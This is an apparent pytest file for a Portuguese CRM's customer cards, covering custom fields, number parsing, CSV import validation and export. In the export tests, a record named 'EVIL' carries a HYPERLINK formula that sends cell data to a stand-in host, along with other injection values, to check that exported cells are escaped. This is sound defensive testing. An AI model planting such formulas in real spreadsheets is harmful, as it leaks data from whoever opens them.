"""Customer cards: the vocabulary, custom fields, and CSV import and export."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from engine.customers import (
    CUSTOMER_FIELDS,
    create_customer,
    csv_cell_value,
    csv_safe_cell,
    customer_fields,
    define_custom_field,
    export_customers,
    get_customer,
    import_customers,
    list_customers,
    parse_number,
    update_customer,
)
from engine.errors import (
    CustomerImportRejected,
    CustomerNotFound,
    CustomFieldError,
    InvalidCustomerValue,
    RowProblem,
)
from engine.models import Customer
from portaria.wiring import Service
from provisioning.directory import create_user


@pytest.fixture
def people(service: Service) -> dict[str, int]:
    """Two Agentes, an Admin and an inactive Agente."""
    with service.transaction() as session:
        ids = {}
        for name, email, role in (
            ("Ana Lima", "ana@cs.test", "agente"),
            ("Bruno Reis", "bruno@cs.test", "agente"),
            ("Carla Dias", "carla@cs.test", "admin"),
            ("Davi Melo", "davi@cs.test", "agente"),
        ):
            user = create_user(
                session, name=name, email=email, area="CS", role=role, created_via="test"
            )
            ids[email] = user.id
        user.active = False
    return ids


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def card(session: Session, code: str) -> dict[str, Any]:
    customer = get_customer(session, code)
    return {
        key: getattr(customer, key)
        for key in (
            "name",
            "code",
            "segment",
            "area",
            "owner_id",
            "contact_name",
            "contact_email",
            "stage",
            "health_score",
            "nps",
            "mrr",
            "renewal_date",
            "custom",
        )
    }


def count(session: Session) -> int:
    return session.scalar(select(func.count()).select_from(Customer)) or 0


class TestVocabulary:
    def test_fields_kinds_and_labels(self) -> None:
        assert {key: (f.kind, f.label) for key, f in CUSTOMER_FIELDS.items()} == {
            "name": ("text", "Nome"),
            "code": ("text", "Código"),
            "segment": ("text", "Segmento"),
            "area": ("text", "Área"),
            "owner": ("user", "Responsável"),
            "contact_name": ("text", "Contato"),
            "contact_email": ("email", "E-mail do contato"),
            "stage": ("text", "Estágio"),
            "health_score": ("number", "Saúde"),
            "nps": ("number", "NPS"),
            "mrr": ("number", "MRR"),
            "renewal_date": ("date", "Renovação"),
        }
        assert CUSTOMER_FIELDS["owner"].column == "owner_id"

    def test_custom_fields_join_the_vocabulary(self, service: Service) -> None:
        with service.transaction() as session:
            define_custom_field(session, "plano", "Plano contratado", "escolha", ["Básico", "Pro"])
            fields = customer_fields(session)

        assert [f.key for f in fields][-2:] == ["renewal_date", "plano"]
        assert (fields[-1].kind, fields[-1].choices, fields[-1].column) == (
            "choice",
            ("Básico", "Pro"),
            None,
        )


class TestNumbers:
    @pytest.mark.parametrize(
        ("text", "value"),
        [
            ("1234", "1234"),
            ("1234,5", "1234.5"),
            ("1234.5", "1234.5"),
            ("1.234,56", "1234.56"),
            ("1,234.56", "1234.56"),
            ("1.234.567", "1234567"),
            ("R$ 2.500,00", "2500.00"),
            ("-3", "-3"),
        ],
    )
    def test_brazilian_and_english_writing(self, text: str, value: str) -> None:
        assert parse_number(text) == Decimal(value)

    @pytest.mark.parametrize("text", ["abc", "1.2.3", "1,2,3", "NaN", "12a"])
    def test_not_numbers(self, text: str) -> None:
        with pytest.raises(InvalidCustomerValue, match="número inválido"):
            parse_number(text)


class TestCustomFields:
    def test_define_each_kind(self, service: Service) -> None:
        with service.transaction() as session:
            rows = [
                define_custom_field(session, "plano", "Plano", "escolha", ["Básico", "Pro"]),
                define_custom_field(session, "usuarios", "Usuários", "número"),
                define_custom_field(session, "kickoff", "Kickoff", "data"),
                define_custom_field(session, "estrategico", "Estratégico", "sim_não"),
                define_custom_field(session, "obs", "Observação", "text"),
            ]
            kinds = [(r.key, r.kind, r.choices) for r in rows]

        assert kinds == [
            ("plano", "choice", ["Básico", "Pro"]),
            ("usuarios", "number", []),
            ("kickoff", "date", []),
            ("estrategico", "boolean", []),
            ("obs", "text", []),
        ]

    @pytest.mark.parametrize(
        ("key", "kind", "choices", "message"),
        [
            ("Plano", "texto", [], "chave inválida (bad key) 'Plano'"),
            ("nome", "texto", [], "chave já usada por um campo padrão (key is built in): nome"),
            ("mrr", "texto", [], "chave já usada por um campo padrão (key is built in): mrr"),
            ("plano", "cor", [], "tipo inválido (bad kind) 'cor'"),
            ("plano", "escolha", [], "campo de escolha sem opções"),
            ("plano", "texto", ["a"], "opções só valem para campos de escolha"),
        ],
    )
    def test_refused(
        self, service: Service, key: str, kind: str, choices: list[str], message: str
    ) -> None:
        with service.transaction() as session, pytest.raises(CustomFieldError) as raised:
            define_custom_field(session, key, "Plano", kind, choices)

        assert str(raised.value).startswith(message)

    def test_duplicate_key(self, service: Service) -> None:
        with service.transaction() as session:
            define_custom_field(session, "plano", "Plano", "texto")
            with pytest.raises(CustomFieldError) as raised:
                define_custom_field(session, "plano", "Outro", "texto")

        assert str(raised.value) == "campo já existe (field exists): plano"


class TestCards:
    def test_create_update_and_clear(self, service: Service, people: dict[str, int]) -> None:
        with service.transaction() as session:
            define_custom_field(session, "kickoff", "Kickoff", "data")
            create_customer(
                session,
                {
                    "code": "ACME",
                    "name": "Acme Ltda",
                    "owner": "ANA@cs.test",
                    "mrr": "1.500,5",
                    "renewal_date": "31/03/2027",
                    "kickoff": date(2026, 2, 2),
                },
            )
            update_customer(session, "ACME", {"stage": "Adoção", "mrr": None, "nps": 70})
            values = card(session, "ACME")

        assert values == {
            "name": "Acme Ltda",
            "code": "ACME",
            "segment": None,
            "area": None,
            "owner_id": people["ana@cs.test"],
            "contact_name": None,
            "contact_email": None,
            "stage": "Adoção",
            "health_score": None,
            "nps": 70,
            "mrr": None,
            "renewal_date": date(2027, 3, 31),
            "custom": {"kickoff": "2026-02-02"},
        }

    def test_owner_must_be_an_active_agente(
        self, service: Service, people: dict[str, int]
    ) -> None:
        with service.transaction() as session:
            for owner, message in (
                ("zeca@cs.test", "Responsável: responsável não encontrado (owner not found): "
                 "zeca@cs.test"),
                ("carla@cs.test", "Responsável: responsável não é Agente (owner is not an "
                 "Agente): carla@cs.test é admin"),
                ("davi@cs.test", "Responsável: responsável inativo (owner inactive): "
                 "davi@cs.test"),
            ):  # fmt: skip
                with pytest.raises(InvalidCustomerValue) as raised:
                    create_customer(session, {"code": "X", "name": "X", "owner": owner})
                assert str(raised.value) == message

    def test_duplicate_code_and_unknown_card(self, service: Service) -> None:
        with service.transaction() as session:
            create_customer(session, {"code": "ACME", "name": "Acme"})
            with pytest.raises(InvalidCustomerValue, match="código já existe"):
                create_customer(session, {"code": "ACME", "name": "Outra"})
            with pytest.raises(CustomerNotFound) as raised:
                get_customer(session, "NOPE")

        assert str(raised.value) == "Cliente não encontrado (customer not found): NOPE"

    def test_list_filters(self, service: Service, people: dict[str, int]) -> None:
        with service.transaction() as session:
            for code, owner, segment in (
                ("C1", "ana@cs.test", "Varejo"),
                ("C2", "bruno@cs.test", "Varejo"),
                ("C3", "ana@cs.test", "Saúde"),
            ):
                create_customer(
                    session, {"code": code, "name": code, "owner": owner, "segment": segment}
                )
            by_owner = [c.code for c in list_customers(session, owner_email="Ana@cs.test")]
            by_segment = [c.code for c in list_customers(session, segment="varejo")]
            both = [
                c.code for c in list_customers(session, owner_email="ana@cs.test", segment="Saúde")
            ]

        assert (by_owner, by_segment, both) == (["C1", "C3"], ["C1", "C2"], ["C3"])


PT_HEADER = (
    "nome;codigo;segmento;area;responsavel;contato;email_contato;estagio;saude;nps;mrr;renovacao"
)


class TestImport:
    def test_utf8_semicolon_portuguese_headers(
        self, service: Service, people: dict[str, int], tmp_path: Path
    ) -> None:
        file = write(
            tmp_path / "clientes.csv",
            f"{PT_HEADER}\n"
            "Padaria São João;PSJ;Varejo;Sul;ana@cs.test;Joana;joana@psj.test;Adoção;80;45;"
            "1.234,56;15/03/2027\n"
            "Clínica Boa Saúde;CBS;Saúde;;bruno@cs.test;;;Onboarding;;-10;900;2027-01-31\n",
        )
        with service.transaction() as session:
            report = import_customers(session, file)
            psj, cbs = card(session, "PSJ"), card(session, "CBS")

        assert (report.rows, report.created, report.updated) == (2, 2, 0)
        assert (report.encoding, report.delimiter) == ("utf-8", ";")
        assert psj == {
            "name": "Padaria São João",
            "code": "PSJ",
            "segment": "Varejo",
            "area": "Sul",
            "owner_id": people["ana@cs.test"],
            "contact_name": "Joana",
            "contact_email": "joana@psj.test",
            "stage": "Adoção",
            "health_score": 80,
            "nps": 45,
            "mrr": Decimal("1234.56"),
            "renewal_date": date(2027, 3, 15),
            "custom": {},
        }
        assert (cbs["area"], cbs["health_score"], cbs["nps"], cbs["mrr"]) == (
            None,
            None,
            -10,
            Decimal("900.00"),
        )
        assert cbs["renewal_date"] == date(2027, 1, 31)

    def test_latin1_comma_english_headers(
        self, service: Service, people: dict[str, int], tmp_path: Path
    ) -> None:
        file = write(
            tmp_path / "customers.csv",
            "Name,Code,Segment,Owner,Contact_Name,Contact_Email,Stage,Health,NPS,MRR,"
            "Renewal_Date\n"
            "Açaí do Pará,ACAI,Alimentação,bruno@cs.test,Conceição,c@acai.test,Renovação,55,9,"
            '"2.000,00",2026-12-01\n',
            encoding="latin-1",
        )
        with service.transaction() as session:
            report = import_customers(session, file)
            acai = card(session, "ACAI")

        assert (report.encoding, report.delimiter, report.created) == ("latin-1", ",", 1)
        assert acai["name"] == "Açaí do Pará"
        assert acai["segment"] == "Alimentação"
        assert acai["contact_name"] == "Conceição"
        assert acai["stage"] == "Renovação"
        assert acai["mrr"] == Decimal("2000.00")
        assert acai["renewal_date"] == date(2026, 12, 1)

    def test_utf8_with_bom_and_accented_headers(
        self, service: Service, people: dict[str, int], tmp_path: Path
    ) -> None:
        file = write(
            tmp_path / "excel.csv",
            "Nome,Código,Responsável,Renovação\nÓtica Visão,OTV,ana@cs.test,01/02/2027\n",
            encoding="utf-8-sig",
        )
        with service.transaction() as session:
            report = import_customers(session, file)
            otica = card(session, "OTV")

        assert (report.encoding, report.delimiter) == ("utf-8", ",")
        assert (otica["name"], otica["renewal_date"]) == ("Ótica Visão", date(2027, 2, 1))

    def test_every_problem_is_reported_and_nothing_is_imported(
        self, service: Service, people: dict[str, int], tmp_path: Path
    ) -> None:
        with service.transaction() as session:
            create_customer(session, {"code": "OLD", "name": "Antigo", "stage": "Adoção"})
        file = write(
            tmp_path / "ruim.csv",
            "nome;codigo;responsavel;email_contato;nps;mrr;renovacao\n"
            "Bom;B1;ana@cs.test;a@b.test;10;100;01/01/2027\n"
            "Sem dono;B2;zeca@cs.test;;;;\n"
            "Admin;B3;carla@cs.test;;;;\n"
            "Data;B4;;;;;31/02/2027\n"
            "Número;B5;;;dez;12,345;\n"
            "Email;B6;;joana@;;;\n"
            "Repetido;B1;;;;;\n"
            "Velho;OLD;;;;;\n"
            ";B7;;;101;;\n",
        )
        with service.transaction() as session, pytest.raises(CustomerImportRejected) as raised:
            import_customers(session, file)

        assert str(raised.value) == (
            "ruim.csv: 9 problema(s) em 7 linha(s); nada foi importado (nothing imported)"
        )
        assert raised.value.problems == [
            RowProblem(3, "responsavel", "responsável não encontrado (owner not found): "
                       "zeca@cs.test"),
            RowProblem(4, "responsavel", "responsável não é Agente (owner is not an Agente): "
                       "carla@cs.test é admin"),
            RowProblem(5, "renovacao", "data inválida (bad date) '31/02/2027': use dd/mm/aaaa "
                       "ou aaaa-mm-dd"),
            RowProblem(6, "nps", "número inteiro inválido (bad whole number): 'dez'"),
            RowProblem(6, "mrr", "MRR com mais de 2 casas decimais (too many decimals): "
                       "'12,345'"),
            RowProblem(7, "email_contato", "e-mail inválido (bad email): 'joana@'"),
            RowProblem(8, "codigo", "código repetido no arquivo (duplicate code): B1, já na "
                       "linha 2"),
            RowProblem(10, "nome", "Nome obrigatório (required)"),
            RowProblem(10, "nps", "NPS acima de 100 (too large): 101"),
        ]  # fmt: skip
        assert str(raised.value.problems[0]) == (
            "linha 3, coluna responsavel: responsável não encontrado (owner not found): "
            "zeca@cs.test"
        )
        with service.sessions() as session:
            assert count(session) == 1
            assert card(session, "OLD")["name"] == "Antigo"

    def test_file_level_problems(self, service: Service, tmp_path: Path) -> None:
        file = write(tmp_path / "colunas.csv", "nome;telefone;nome do cliente\nA;1;B\n")
        with service.transaction() as session, pytest.raises(CustomerImportRejected) as raised:
            import_customers(session, file)

        assert [str(p) for p in raised.value.problems] == [
            "linha 1, coluna telefone: coluna desconhecida (unknown column)",
            "linha 1, coluna nome do cliente: coluna desconhecida (unknown column)",
            "linha 1: falta a coluna codigo (code column missing)",
        ]

    def test_new_card_needs_a_name_column(self, service: Service, tmp_path: Path) -> None:
        with service.transaction() as session:
            create_customer(session, {"code": "OLD", "name": "Antigo"})
        file = write(tmp_path / "so_codigo.csv", "codigo;estagio\nOLD;Risco\nNEW;Adoção\n")
        with service.transaction() as session, pytest.raises(CustomerImportRejected) as raised:
            import_customers(session, file)

        assert raised.value.problems == [
            RowProblem(3, "nome", "cliente novo precisa de nome (name required)")
        ]

    def test_line_numbers_count_physical_lines(self, service: Service, tmp_path: Path) -> None:
        file = write(
            tmp_path / "multilinha.csv",
            'nome;codigo;nps\n"Loja\nCentro";L1;5\n\nLoja 2;L2;x\n',
        )
        with service.transaction() as session, pytest.raises(CustomerImportRejected) as raised:
            import_customers(session, file)

        assert [p.line for p in raised.value.problems] == [5]

    def test_upsert_by_code_keeps_absent_columns_and_clears_empty_cells(
        self, service: Service, people: dict[str, int], tmp_path: Path
    ) -> None:
        first = write(
            tmp_path / "a.csv",
            "nome;codigo;segmento;estagio;saude\nAcme;ACME;Varejo;Adoção;70\nBeta;BETA;;;\n",
        )
        second = write(tmp_path / "b.csv", "codigo;segmento;saude\nACME;Indústria;\n")
        with service.transaction() as session:
            import_customers(session, first)
            report = import_customers(session, second)
            acme = card(session, "ACME")

        assert (report.created, report.updated) == (0, 1)
        assert (acme["name"], acme["segment"], acme["stage"], acme["health_score"]) == (
            "Acme",
            "Indústria",
            "Adoção",
            None,
        )

    def test_custom_field_columns(
        self, service: Service, people: dict[str, int], tmp_path: Path
    ) -> None:
        with service.transaction() as session:
            define_custom_field(session, "plano", "Plano contratado", "escolha", ["Básico", "Pro"])
            define_custom_field(session, "usuarios", "Usuários", "número")
            define_custom_field(session, "kickoff", "Kickoff", "data")
            define_custom_field(session, "estrategico", "Estratégico", "sim_não")
        good = write(
            tmp_path / "custom.csv",
            "nome;codigo;Plano contratado;usuarios;kickoff;estrategico\n"
            "Acme;ACME;pro;12;05/01/2026;Sim\n"
            "Beta;BETA;Básico;2,5;;não\n",
        )
        bad = write(
            tmp_path / "custom_ruim.csv", "nome;codigo;plano;estrategico\nG;G;Gold;talvez\n"
        )
        with service.transaction() as session:
            import_customers(session, good)
            acme, beta = card(session, "ACME"), card(session, "BETA")
            with pytest.raises(CustomerImportRejected) as raised:
                import_customers(session, bad)

        assert acme["custom"] == {
            "plano": "Pro",
            "usuarios": 12,
            "kickoff": "2026-01-05",
            "estrategico": True,
        }
        assert beta["custom"] == {"plano": "Básico", "usuarios": 2.5, "estrategico": False}
        assert [str(p) for p in raised.value.problems] == [
            "linha 2, coluna plano: opção inválida (bad choice) 'Gold': use Básico, Pro",
            "linha 2, coluna estrategico: valor inválido (bad yes/no) 'talvez': use sim ou não",
        ]

    def test_progress_is_reported(self, service: Service, tmp_path: Path) -> None:
        rows = "".join(f"Cliente {i};C{i:04d}\n" for i in range(2500))
        file = write(tmp_path / "muitos.csv", "nome;codigo\n" + rows)
        seen: list[tuple[str, int, int]] = []
        with service.transaction() as session:
            report = import_customers(session, file, progress=lambda *a: seen.append(a))
            total = count(session)

        assert (report.created, total) == (2500, 2500)
        assert seen == [
            ("validando", 1000, 2500),
            ("validando", 2000, 2500),
            ("validando", 2500, 2500),
            ("gravando", 1000, 2500),
            ("gravando", 2000, 2500),
            ("gravando", 2500, 2500),
        ]


class TestExport:
    def test_export_text_and_round_trip(
        self, service: Service, people: dict[str, int], tmp_path: Path
    ) -> None:
        with service.transaction() as session:
            define_custom_field(session, "plano", "Plano", "escolha", ["Básico", "Pro"])
            define_custom_field(session, "estrategico", "Estratégico", "sim_não")
            create_customer(
                session,
                {
                    "code": "PSJ",
                    "name": "Padaria São João",
                    "segment": "Varejo",
                    "owner": "ana@cs.test",
                    "contact_email": "joana@psj.test",
                    "health_score": 80,
                    "nps": -5,
                    "mrr": "1234,5",
                    "renewal_date": date(2027, 3, 15),
                    "plano": "Pro",
                    "estrategico": True,
                },
            )
            create_customer(session, {"code": "AB", "name": 'Loja "A;B"'})
            before = [card(session, "AB"), card(session, "PSJ")]
            written = export_customers(session, tmp_path / "export.csv")

        data = (tmp_path / "export.csv").read_bytes()
        assert written == 2
        assert data.startswith(b"\xef\xbb\xbf")
        assert data.decode("utf-8-sig").splitlines() == [
            f"{PT_HEADER};plano;estrategico",
            '"Loja ""A;B""";AB;;;;;;;;;;;;',
            "Padaria São João;PSJ;Varejo;;ana@cs.test;;joana@psj.test;;80;-5;1234,50;"
            "15/03/2027;Pro;sim",
        ]

        with service.transaction() as session:
            for code in ("AB", "PSJ"):
                session.delete(get_customer(session, code))
        with service.transaction() as session:
            report = import_customers(session, tmp_path / "export.csv")
            after = [card(session, "AB"), card(session, "PSJ")]

        assert report.created == 2
        assert after == before

    def test_formula_cells_are_quoted_and_come_back_whole(
        self, service: Service, people: dict[str, int], tmp_path: Path
    ) -> None:
        with service.transaction() as session:
            define_custom_field(session, "nota", "Nota", "texto")
            define_custom_field(session, "saldo", "Saldo", "número")
            create_customer(
                session,
                {
                    "code": "EVIL",
                    "name": '=HYPERLINK("http://x.test/?d="&A1;"clique")',
                    "segment": "+SUM(1;2)",
                    "area": "-2+3",
                    "contact_name": "@cmd",
                    "stage": "'=já com aspa",
                    "nps": -20,
                    "nota": "-20",
                    "saldo": "-1.234,5",
                },
            )
            before = card(session, "EVIL")
            export_customers(session, tmp_path / "export.csv")

        lines = (tmp_path / "export.csv").read_text(encoding="utf-8-sig").splitlines()
        assert lines[1] == (
            '"\'=HYPERLINK(""http://x.test/?d=""&A1;""clique"")";EVIL;"\'+SUM(1;2)";\'-2+3;;'
            "'@cmd;;''=já com aspa;;-20;;;-20;-1234,5"
        )

        with service.transaction() as session:
            session.delete(get_customer(session, "EVIL"))
        with service.transaction() as session:
            assert import_customers(session, tmp_path / "export.csv").created == 1
            after = card(session, "EVIL")
        assert after == before
        assert (after["name"], after["nps"], after["custom"]) == (
            '=HYPERLINK("http://x.test/?d="&A1;"clique")',
            -20,
            {"nota": "-20", "saldo": -1234.5},
        )

    @pytest.mark.parametrize(
        ("value", "written"),
        [
            ("=1+1", "'=1+1"),
            ("+55 11 9999", "'+55 11 9999"),
            ("-", "'-"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("'texto", "'texto"),
            ("-20", "-20"),
            ("+5", "+5"),
            ("-1.234,50", "-1.234,50"),
            ("Padaria", "Padaria"),
            ("a=1", "a=1"),
            ("", ""),
        ],
    )
    def test_cell_quoting(self, value: str, written: str) -> None:
        assert csv_safe_cell(value) == written
        assert csv_cell_value(written) == value
